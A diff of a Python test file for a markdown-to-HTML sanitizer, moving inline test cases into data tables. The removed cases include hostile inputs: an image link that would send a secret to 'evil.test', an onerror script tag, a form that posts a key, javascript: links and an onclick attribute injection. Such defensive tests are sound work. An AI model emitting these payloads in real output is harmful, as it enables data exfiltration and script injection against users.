@@ -12,28 +12,18 @@ from hypothesis import strategies as st
 from agent.messages import Source
 from tests.adapters.markdown import MOST_FORMATTED_CHARACTERS, markdown_html, own_words_html
 from tests.support.cases import each_case
+from tests.support.tables import filled, table
 
-TAGS = {
-    *(
-        "p",
-        "strong",
-        "em",
-        "s",
-        "code",
-        "pre",
-        "div",
-        "span",
-        "button",
-        "br",
-        "hr",
-        "a",
-        "ul",
-        "ol",
-        "li",
-        "blockquote",
-    ),
-    *("table", "thead", "tbody", "tr", "th", "td", "h1", "h2", "h3", "h4", "h5", "h6"),
-}
+TAGS = """
+p strong em s code pre div span button br hr a ul ol li blockquote table thead tbody tr th td h1 h2 h3 h4 h5 h6
+"""
+
+
+def linked(shown: str) -> str:
+    """Return the HTML of a table with its links in full: `{address}` or `{address|words}`."""
+    link = r'<a href="\1" target="_blank" rel="noopener noreferrer">'
+    shown = re.sub(r"\{([^|}]+)\}", rf"{link}\1</a>", shown)
+    return re.sub(r"\{([^|}]+)\|([^}]+)\}", rf"{link}\2</a>", shown)
 
 
 class Reader(HTMLParser):
@@ -53,28 +43,7 @@ class Reader(HTMLParser):
         self.words += data
 
 
-def a(url: str, text: str = "") -> str:
-    return f'<a href="{url}" target="_blank" rel="noopener noreferrer">{text or url}</a>'
-
-
-@each_case(
-    ("text", "shown"),
-    [
-        ("plain **bold** and `code`", "<p>plain <strong>bold</strong> and <code>code</code></p>"),
-        ("![x](http://evil.test/?d=secret)", "<p>[image: evil.test]</p>"),
-        ("![x](<https://evil.test/a b> 'title')", "<p>[image: evil.test]</p>"),
-        ("![](//evil.test/a.png)", "<p>[image: evil.test]</p>"),
-        ("![logo][ref]", "<p>![logo][ref]</p>"),
-        ("![a[b]c](http://evil.test/x) ![[x](http://evil.test/y)", None),
-        ("<img src=x onerror=alert(1)>", "<p>&lt;img src=x onerror=alert(1)&gt;</p>"),
-        ("</details><!-- x --><?php", "<p>&lt;/details&gt;&lt;!-- x --&gt;&lt;?php</p>"),
-        ("<form action=//evil.test><input name=key></form>", None),
-        ("3 < 4 and 5 > 2 &amp; more", "<p>3 &lt; 4 and 5 &gt; 2 &amp;amp; more</p>"),
-        ("a\u202eb\u200bc\U000e0041\x00", "<p>abc</p>"),
-        ("one\ntwo", "<p>one<br>two</p>"),
-        ("$5 and 6$", "<p>&#36;5 and 6&#36;</p>"),
-    ],
-)
+@each_case(("text", "shown"), filled(table("markdown")["tags"], {}))
 def test_pictures_become_words_and_tags_are_spelled_out(text: str, shown: str | None) -> None:
     html = markdown_html(text)
     assert {tag for tag, _ in Reader(html).tags} <= {"p", "a", "strong", "code", "br"}
@@ -105,16 +74,7 @@ def test_a_formula_begins_and_ends_in_the_same_words(text: str) -> None:
     assert {tag for tag, _ in Reader(html).tags} <= {"p", "code", "div", "button", "span", "pre", "br"}
 
 
-@pytest.mark.parametrize(
-    ("text", "shown"),
-    [
-        ("so $$E = mc^2$$.", "<p>so $$E = mc^2$$.</p>"),
-        ("$$\na < b\n$$", "<p>$$a &lt; b$$</p>"),
-        ("\\(a*b*c\\) and \\[d\\]", "<p>\\(a*b*c\\) and \\[d\\]</p>"),
-        ("\\*no\\* \\$", "<p>*no* &#36;</p>"),
-        ("a \\(b", "<p>a (b</p>"),
-    ],
-)
+@pytest.mark.parametrize(("text", "shown"), table("markdown")["formulas"])
 def test_formulas_are_left_to_the_page(text: str, shown: str) -> None:
     assert markdown_html(text) == shown
 
@@ -136,28 +96,10 @@ def test_each_block_is_a_line_of_its_own_so_that_what_stands_already_is_not_draw
     assert markdown_html("3. three\n4. four").startswith('<ol start="3">')
 
 
-@each_case(
-    ("text", "shown"),
-    [
-        ("see [the page](https://a.test/b?c=d)", f"see the page ({a('https://a.test/b?c=d')})"),
-        ("[a [b] **c**](https://a.test 'title')", f"a [b] <strong>c</strong> ({a('https://a.test')})"),
-        ("[https://a.test](https://a.test)", a("https://a.test")),
-        ("[https://a.test](https://evil.test)", f"https://a.test ({a('https://evil.test')})"),
-        ("[](https://a.test)", a("https://a.test")),
-        ("<https://a.test/x>", a("https://a.test/x")),
-        ("https://a.test/x.", f"{a('https://a.test/x')}."),
-        ("[mail](mailto:a@b.test)", "mail (mailto:a@b.test)"),
-        ("[x](javascript:alert(1))", "x (javascript:alert(1))"),
-        ("[x](/relative)", "x (/relative)"),
-        ("[b][1]\n[1]: https://b.test/x", f"[b][1]<br>[1]: {a('https://b.test/x')}"),
-        ("a list: [1, 2] and [ ] todo", "a list: [1, 2] and [ ] todo"),
-        ("`[a](https://a.test)`", "<code>[a](https://a.test)</code>"),
-        ('[x](https://a.test/"onclick=alert(1))', None),
-    ],
-)
+@each_case(("text", "shown"), filled(table("markdown")["links"], {}))
 def test_the_whole_address_of_a_link_is_in_sight(text: str, shown: str | None) -> None:
     html = markdown_html(text)
-    assert shown is None or html == f"<p>{shown}</p>"
+    assert shown is None or html == f"<p>{linked(shown)}</p>"
     for tag, attributes in Reader(html).tags:
         if tag == "a":
             assert attributes.keys() == {"href", "target", "rel"}
@@ -165,33 +107,13 @@ def test_the_whole_address_of_a_link_is_in_sight(text: str, shown: str | None) -
 
 
 SOURCES = (Source(title="One", url="https://one.test/"), Source(title="Two", url="https://two.test/a_(b)"))
-ONE, TWO = a("https://one.test/", "¹"), a("https://two.test/a_(b)", "²")
 
 
-@each_case(
-    ("text", "shown"),
-    [
-        ("It opens at 7 [1].", f"It opens at 7 {ONE}."),
-        ("So it is.[1][2]", f"So it is.{ONE}\u2009{TWO}"),
-        ("So it is [1, 2]", f"So it is {ONE}\u2009{TWO}"),
-        ("Nobody knows [3]", "Nobody knows [3]"),
-        ("`code[1]` and x[1]", "<code>code[1]</code> and x[1]"),
-        ("[1]: https://evil.test", f"[1]: {a('https://evil.test')}"),
-    ],
-)
+@each_case(("text", "shown"), table("markdown")["sources"])
 def test_a_number_in_brackets_leads_to_its_source(text: str, shown: str) -> None:
-    assert markdown_html(text, SOURCES) == f"<p>{shown}</p>"
-
-
-def test_a_source_that_is_no_web_page_is_no_link() -> None:
-    assert markdown_html("so [1]", [Source(title="x", url="javascript:alert(1)")]) == "<p>so [1]</p>"
-
-
-def test_a_very_long_text_is_shown_as_it_was_written() -> None:
-    text = "**<b>**\n" * MOST_FORMATTED_CHARACTERS
-    html = markdown_html(text)
-    assert html.startswith("<p>**&lt;b&gt;**<br>**")
-    assert Reader(html).words == "**<b>**" * MOST_FORMATTED_CHARACTERS
+    assert markdown_html(text, SOURCES) == f"<p>{linked(shown)}</p>"
+    no_page = [Source(title="x", url="javascript:alert(1)")]
+    assert markdown_html("so [1]", no_page) == "<p>so [1]</p>"
 
 
 SIGNS = "ab \n`~$\\[](){}<>!|*_#-+1.&%;:/\"'="
@@ -201,7 +123,7 @@ PIECES = [*SIGNS, "```", "$$", "\\[", "http://e.test", "```mermaid\n", "<input>"
 @given(st.text() | st.lists(st.sampled_from(PIECES)).map("".join))
 def test_whatever_is_said_no_other_tag_and_no_hidden_address_comes_of_it(text: str) -> None:
     read = Reader(markdown_html(text))
-    assert {tag for tag, _ in read.tags} <= TAGS
+    assert {tag for tag, _ in read.tags} <= set(TAGS.split())
     for tag, attributes in read.tags:
         if tag == "a":
             assert (attributes["href"] or "") in read.words
@@ -232,33 +154,15 @@ def test_a_persons_own_words_stand_as_they_were_typed(text: str) -> None:
     assert reader.words == text
 
 
-def test_an_address_in_a_persons_own_words_is_a_link_with_the_same_words() -> None:
-    reader = Reader(own_words_html("look at https://example.org/a_b_c*d !"))
-    assert [tag for tag, _ in reader.tags] == ["p", "a"]
-    assert reader.words == "look at https://example.org/a_b_c*d !"
+def test_an_address_in_a_persons_own_words_is_a_link_and_a_very_long_text_is_shown_as_it_was_written() -> None:
+    linked_to = Reader(own_words_html("look at https://example.org/a_b_c*d !"))
+    assert [tag for tag, _ in linked_to.tags] == ["p", "a"]
+    assert linked_to.words == "look at https://example.org/a_b_c*d !"
+    long = "**<b>**\n" * MOST_FORMATTED_CHARACTERS
+    assert markdown_html(long).startswith("<p>**&lt;b&gt;**<br>**")
+    assert Reader(markdown_html(long)).words == long.replace("\n", "")
 
 
-@each_case(
-    ("text", "shown"),
-    [
-        ("**注意：**请先看图", "<strong>注意：</strong>请先看图"),
-        ("他说**“好”**然后", "他说<strong>“好”</strong>然后"),
-        ("**“好”**然后**“坏”**。", "<strong>“好”</strong>然后<strong>“坏”</strong>。"),
-        ("**注意：**请看**说明：**第一", "<strong>注意：</strong>请看<strong>说明：</strong>第一"),
-        ("请看*《红楼梦》*这本书", "请看<em>《红楼梦》</em>这本书"),
-        ("原价~~100元。~~现在", "原价<s>100元。</s>现在"),
-        ("使用**`code`**命令", "使用<strong><code>code</code></strong>命令"),
-        ("**（一）**第二**(b)**第三", "<strong>（一）</strong>第二<strong>(b)</strong>第三"),
-        ("これは**「重要」**です", "これは<strong>「重要」</strong>です"),
-        ("안녕**(하세요)**요", "안녕<strong>(하세요)</strong>요"),
-        ("**等等……**请", "<strong>等等……</strong>请"),
-        # As before.
-        ("a**“b”**c", "a**“b”**c"),
-        ("snake_case_词", "snake_case_词"),
-        ("** 不是 **", "** 不是 **"),
-        ("3 * 4 * 5", "3 * 4 * 5"),
-        ("a *b* **c**, d", "a <em>b</em> <strong>c</strong>, d"),
-    ],
-)
+@each_case(("text", "shown"), table("markdown")["emphasis"])
 def test_emphasis_holds_beside_chinese_japanese_and_korean(text: str, shown: str) -> None:
     assert markdown_html(text) == f"<p>{shown}</p>"
